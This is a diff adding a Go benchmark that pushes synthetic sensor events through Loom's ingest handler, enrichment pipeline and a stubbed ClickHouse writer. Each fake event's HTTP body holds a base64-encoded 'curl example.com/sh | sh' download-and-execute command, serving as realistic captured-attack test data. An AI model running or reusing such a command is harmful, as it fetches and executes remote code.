@@ -0,0 +1,124 @@
+package loom
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/StefanGrimminck/Loom/internal/auth"
+	"github.com/StefanGrimminck/Loom/internal/event"
+	"github.com/StefanGrimminck/Loom/internal/ingest"
+	"github.com/StefanGrimminck/Loom/internal/profile"
+	"github.com/StefanGrimminck/Loom/internal/ratelimit"
+	"github.com/rs/zerolog"
+)
+
+// BenchmarkIngestPath posts batches of 500 Spip events through the ingest handler, the pipeline
+// (transform, normalize, sensor metadata, payload hashing, first-seen) and the ClickHouse writer
+// against a server that discards the inserts. Run with -cpuprofile and look at the "stage" label
+// (go tool pprof -tagfocus) to see where the time goes.
+func BenchmarkIngestPath(b *testing.B) {
+	b.Run("labels=off", func(b *testing.B) { benchmarkIngestPath(b, nil) })
+	b.Run("labels=on", func(b *testing.B) { benchmarkIngestPath(b, profile.NewLabels()) })
+}
+
+func benchmarkIngestPath(b *testing.B, labels *profile.Labels) {
+	ch := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.Copy(io.Discard, r.Body)
+	}))
+	b.Cleanup(ch.Close)
+	dir := b.TempDir()
+	path := filepath.Join(dir, "loom.toml")
+	content := `
+[sensors.spip-001]
+site = "ams-1"
+tags = ["dmz"]
+
+[normalize]
+enabled = true
+
+[enrichment.payload]
+enabled = true
+
+[enrichment.first_seen]
+enabled = true
+path = "` + filepath.Join(dir, "first_seen.bloom") + `"
+expected_items = 100000
+
+[[transform]]
+action = "add"
+field = "event.dataset"
+value = "spip.http"
+
+[output]
+type = "clickhouse"
+clickhouse_url = "` + ch.URL + `"
+`
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		b.Fatal(err)
+	}
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		b.Fatal(err)
+	}
+	p, err := NewPipeline(cfg, Options{Log: zerolog.Nop(), ProfileLabels: labels != nil})
+	if err != nil {
+		b.Fatal(err)
+	}
+	b.Cleanup(func() { _ = p.Close() })
+	h := &ingest.Handler{
+		Validator:     auth.NewValidator(map[string]string{"test-token": "spip-001"}),
+		RateLimiter:   ratelimit.NewPerSensorLimiter(1e9),
+		MaxBodyBytes:  16 * 1024 * 1024,
+		MaxEvents:     1000,
+		MaxEventBytes: 128 * 1024,
+		ProcessBatch: func(_ context.Context, sensorID string, events []event.Event) error {
+			return p.Ingest(sensorID, events)
+		},
+		Log:     zerolog.Nop(),
+		Profile: labels,
+	}
+
+	batch := make([]map[string]interface{}, 500)
+	for i := range batch {
+		batch[i] = map[string]interface{}{
+			"@timestamp":  "2026-02-15T19:47:09Z",
+			"event":       map[string]interface{}{"id": fmt.Sprintf("ev-%d", i), "ingested_by": "spip", "summary": "GET /.well-known/security.txt"},
+			"source":      map[string]interface{}{"ip": fmt.Sprintf("45.%d.%d.%d", i/65536, i/256%256, i%256), "port": 4496},
+			"destination": map[string]interface{}{"ip": "5.175.183.132", "port": 443},
+			"observer":    map[string]interface{}{"hostname": "spip-001", "id": "spip-001"},
+			"network":     map[string]interface{}{"transport": "tcp", "protocol": "http"},
+			"http": map[string]interface{}{
+				"request": map[string]interface{}{"method": "GET", "body": map[string]interface{}{"content": "Y3VybCBodHRwOi8vZXhhbXBsZS5jb20vc2ggfCBzaA=="}},
+			},
+			"user_agent": map[string]interface{}{"original": "Mozilla/5.0 zgrab/0.x"},
+		}
+	}
+	body, err := json.Marshal(batch)
+	if err != nil {
+		b.Fatal(err)
+	}
+	b.SetBytes(int64(len(body)))
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		req := httptest.NewRequest(http.MethodPost, "/ingest", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("Authorization", "Bearer test-token")
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, req)
+		if rec.Code != http.StatusNoContent {
+			b.Fatalf("status %d: %s", rec.Code, rec.Body)
+		}
+		if err := p.Writer().Flush(); err != nil {
+			b.Fatal(err)
+		}
+	}
+}